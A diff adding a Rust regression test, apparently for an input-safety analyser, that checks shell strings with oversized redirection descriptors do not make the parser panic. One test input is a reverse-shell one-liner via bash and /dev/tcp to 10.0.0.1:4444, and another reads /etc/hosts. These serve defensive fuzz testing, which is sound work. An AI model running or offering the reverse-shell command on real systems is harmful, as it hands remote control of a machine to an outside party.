@@ -485,3 +485,16 @@ fn ten_thousand_nested_sql_subqueries() {
     );
     assert_not_allowed("10,000 nested subqueries", InputKind::Sql, text);
 }
+
+/// Found by the fuzzer: brush-parser 0.4 panics (`parse().unwrap()` on the file-descriptor number)
+/// when a redirection's descriptor does not fit its integer type. The analyser must not panic.
+#[test]
+fn oversized_redirection_descriptor_does_not_panic() {
+    for text in [
+        "echo hi 99999999999999999999>&1",
+        "bash -i 3333333333333333333333333333333333>& /dev/tcp/10.0.0.1/4444 0>&1",
+        "cat 4294967296< /etc/hosts",
+    ] {
+        let _ = analyse_on_thread("oversized fd", InputKind::Shell, text.to_owned());
+    }
+}
